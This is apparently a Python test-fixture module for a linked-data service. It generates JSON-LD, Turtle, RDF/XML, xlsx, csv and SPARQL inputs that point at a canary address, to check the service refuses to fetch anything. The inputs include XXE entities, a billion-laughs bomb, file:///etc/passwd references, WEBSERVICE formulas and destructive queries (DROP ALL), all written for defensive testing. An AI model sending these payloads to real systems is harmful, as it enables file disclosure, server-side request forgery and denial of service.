"""Files and queries with the canary's address wherever a reader might fetch something."""

from __future__ import annotations

import json
from functools import partial

from tests.fixtures.bad_parquets import PARQUETS
from tests.fixtures.bad_workbooks import GOOD, GOOD_SHEET, HEADER, MAIN, PACKAGE, RELATIONS, packed, parts, sheet, texts
from tests.hostile.sent import CHECK, File, Sent, delivery

RDF = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"
OWL = "http://www.w3.org/2002/07/owl#"
CG = "https://w3id.org/clausegraph/def/"
CONTEXT = "https://w3id.org/clausegraph/context/v1"


def _json(said: object) -> str:
    return json.dumps(said)


def _jsonld(address: str) -> dict[str, str]:
    own = {"@id": "#o1", "@type": "Observation"}
    return {
        "context.jsonld": _json({"@context": address, **own}),
        "context-in-a-list.jsonld": _json({"@context": [CONTEXT, address], **own}),
        "imported.jsonld": _json({"@context": {"@version": 1.1, "@import": address}, **own}),
        "imported-quietly.jsonld": _json({"@context": {"@import": address}, **own}),
        "scoped.jsonld": _json({"@context": {"x": {"@id": "u:x", "@context": address}}, "x": {"y": 1}, **own}),
        "of-a-type.jsonld": _json({"@context": {"T": {"@id": "u:T", "@context": address}}, "@type": "T"}),
        "below.jsonld": _json([{**own, "x": {"@context": address, "y": 1}}]),
        "of-base.jsonld": _json({"@context": [{"@base": address}, "context.jsonld"], **own}),
        "of-a-file.jsonld": _json({"@context": "file:///etc/passwd", **own}),
        "propagated.jsonld": _json({"@context": {"@propagate": False, "@import": address}, **own}),
        "vocabulary.jsonld": _json({"@context": {"@vocab": address + "#"}, "@id": "#o1", "@type": "T", "x": 1}),
    }


def _turtle(address: str) -> dict[str, str]:
    return {
        "imports.ttl": f"<#o1> <{OWL}imports> <{address}> .",
        "ontology.ttl": f"<> a <{OWL}Ontology> ; <{OWL}imports> <{address}> .",
        "base.ttl": f"@base <{address}/> . <#o1> a <{CG}Observation> .",
        "sparql-base.ttl": f"BASE <{address}/>\nPREFIX : <{address}#>\n:a :b :c .",
        "names.ttl": f"<{address}#s> <{address}#p> <{address}#o> .",
        "same-as.ttl": f"<#o1> <{OWL}sameAs> <{address}> ; <http://www.w3.org/2000/01/rdf-schema#seeAlso> <{address}> .",
        "datatype.ttl": f'<#o1> a <{CG}Observation> ; <{CG}value> "1"^^<{address}> .',
        "shapes-graph.ttl": f"<#o1> <http://www.w3.org/ns/shacl#shapesGraph> <{address}> .",
        "service.ttl": f'<#o1> <http://www.w3.org/ns/shacl#select> "SELECT * {{ SERVICE <{address}> {{ ?s ?p ?o }} }}" .',
        "names.nt": f"<{address}#s> <{OWL}imports> <{address}> .",
        "graph.nq": f"<u:s> <u:p> <u:o> <{address}> .",
        "graph.trig": f"<{address}> {{ <u:s> <u:p> <u:o> }}",
        "quads-as-triples.nt": f"<u:s> <u:p> <u:o> <{address}> .",
        "graph-as-turtle.ttl": f"GRAPH <{address}> {{ <u:s> <u:p> <u:o> }}",
    }


def _xml(address: str) -> dict[str, str]:
    laughs = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))
    inside = f'<rdf:Description rdf:about="{address}"><u:p xmlns:u="u:">&x;</u:p></rdf:Description>'
    outside = f'<!DOCTYPE r [<!ENTITY x SYSTEM "{address}"><!ENTITY % y SYSTEM "{address}"> %y;]>'
    trix = f'<TriX xmlns="http://www.w3.org/2004/03/trix/trix-1/"><graph><uri>{address}</uri></graph></TriX>'
    found = {
        "outside.rdf": f'{outside}<rdf:RDF xmlns:rdf="{RDF}">{inside}</rdf:RDF>',
        "dtd.rdf": f'<!DOCTYPE r SYSTEM "{address}"><rdf:RDF xmlns:rdf="{RDF}" xml:base="{address}"/>',
        "laughs.rdf": f'<!DOCTYPE r [<!ENTITY l0 "lol">{laughs}]><rdf:RDF xmlns:rdf="{RDF}">&l9;</rdf:RDF>',
        "style.xml": f'<?xml-stylesheet href="{address}"?><rdf:RDF xmlns:rdf="{RDF}"/>',
        "graph.trix": trix,
        "schema.xml": f'<a xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="u: {address}"/>',
        "include.xml": f'<a xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="{address}"/></a>',
        "page.html": f'<html><img src="{address}"><script type="application/ld+json">{{}}</script></html>',
    }
    disguised = {f"{name}-as-turtle.ttl": content for name, content in found.items()}
    return found | disguised | {f"{name}-as-table.csv": content for name, content in found.items()}


def _workbooks(address: str) -> dict[str, bytes]:
    rel = f'<Relationship Id="rId1" Type="{RELATIONS}/worksheet" Target="{address}" TargetMode="External"/>'
    links = f'<Relationships xmlns="{PACKAGE}">{rel}</Relationships>'
    away = f'<externalLink xmlns="{MAIN}" xmlns:r="{RELATIONS}"><externalBook r:id="rId1"/></externalLink>'
    outside = f'<!DOCTYPE worksheet SYSTEM "{address}">'
    entity = f'<!DOCTYPE worksheet [<!ENTITY x SYSTEM "{address}">]>'
    formula = f'<row r="2"><c r="E2"><f>WEBSERVICE("{address}")</f></c></row>'
    good = parts(GOOD_SHEET)
    made = {
        "sheet-elsewhere.xlsx": good | {"xl/_rels/workbook.xml.rels": links},
        "external-link.xlsx": good
        | {"xl/externalLinks/externalLink1.xml": away, "xl/externalLinks/_rels/externalLink1.xml.rels": links},
        "dtd.xlsx": good | {"xl/worksheets/sheet1.xml": outside + GOOD_SHEET},
        "entity.xlsx": good | {"xl/worksheets/sheet1.xml": entity + GOOD_SHEET.replace("常德市", "&x;")},
        "strings.xlsx": good | {"xl/sharedStrings.xml": f'<!DOCTYPE sst SYSTEM "{address}"><sst xmlns="{MAIN}"/>'},
        "rels-dtd.xlsx": good | {"xl/_rels/workbook.xml.rels": f'<!DOCTYPE r SYSTEM "{address}">{links}'},
        "web-formula.xlsx": parts(sheet(texts(1, HEADER), formula)),
        "text-of-address.xlsx": parts(sheet(texts(1, HEADER), texts(2, (address, *GOOD[1:4], address, address)))),
    }
    return {name: packed(found) for name, found in made.items()}


def _tables(address: str) -> dict[str, bytes]:
    place = f"o1,{address},空气质量优良天数比例,2022,96,%\n"
    far = PARQUETS["column-in-another-file"]
    return {
        "address.csv": (",".join(HEADER) + "\n" + place).encode(),
        "web-formula.csv": (",".join(HEADER) + f'\no1,常德市,x,2022,"=WEBSERVICE(""{address}"")",%\n').encode(),
        f"{address}/a.csv": b"x",
        f"{address}/a.parquet": b"PAR1",
        f"{address}/*.parquet": far,
        "s3:__bucket_a.parquet".replace("_", "/"): far,
        "file:///etc/passwd": b"x",
    }


def reaching_files(address: str) -> list[File]:
    """All of them; each must be refused, and nobody called."""
    texts_of = {**_jsonld(address), **_turtle(address), **_xml(address)}
    found = {name: content.encode() for name, content in texts_of.items()} | _workbooks(address) | _tables(address)
    return [File("reaching", name, partial(bytes, content)) for name, content in found.items()]


def reaching_quietly(address: str) -> list[Sent]:
    """What may well be sound, as a link in evidence is one; it is only checked, and nobody may be called."""
    linked = (
        f"<#d1> a <{CG}Document> ; <{CG}link> <{address}> ; <{CG}title> 'x' .",
        f"<#o1> a <{CG}Observation> ; <{CG}note> <{address}> .",
    )
    files = [File("quiet", f"link-{at}.ttl", partial(str.encode, one)) for at, one in enumerate(linked)]
    return [delivery(file, CHECK) for file in files]


def queries(address: str) -> dict[str, str]:
    """Queries that would reach out, or read what is no graph of ours."""
    return {
        "service": f"SELECT * {{ SERVICE <{address}> {{ ?s ?p ?o }} }}",
        "service-silent": f"SELECT * {{ SERVICE SILENT <{address}> {{ ?s ?p ?o }} }}",
        "service-in-a-query": f"SELECT * {{ {{ SELECT * {{ SERVICE <{address}> {{ ?s ?p ?o }} }} }} }}",
        "service-by-prefix": f"PREFIX c: <{address}/> SELECT * {{ SERVICE c:x {{ ?s ?p ?o }} }}",
        "service-by-base": f"BASE <{address}/> SELECT * {{ service <x> {{ ?s ?p ?o }} }}",
        "service-by-variable": f"SELECT * {{ VALUES ?g {{ <{address}> }} SERVICE ?g {{ ?s ?p ?o }} }}",
        "service-in-exists": f"SELECT * {{ ?a ?b ?c FILTER EXISTS {{ SERVICE <{address}> {{ ?s ?p ?o }} }} }}",
        "service-escaped": "SELECT * { S\\u0045RVICE <" + address + "> { ?s ?p ?o } }",
        "load": f"LOAD <{address}>",
        "load-silent": f"LOAD SILENT <{address}> INTO GRAPH <u:g>",
        "insert": f"INSERT DATA {{ <{address}> <u:p> 1 }}",
        "delete": "DELETE WHERE { ?s ?p ?o }",
        "drop": "DROP ALL",
    }


def quiet_queries(address: str) -> dict[str, str]:
    """Queries that may be answered (with nothing), and that must not reach out."""
    return {
        "from": f"SELECT * FROM <{address}> {{ ?s ?p ?o }}",
        "from-named": f"SELECT * FROM NAMED <{address}> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
        "from-a-file": "SELECT * FROM <file:///etc/passwd> { ?s ?p ?o }",
        "graph": f"SELECT * {{ GRAPH <{address}> {{ ?s ?p ?o }} }}",
        "describe": f"DESCRIBE <{address}>",
    }
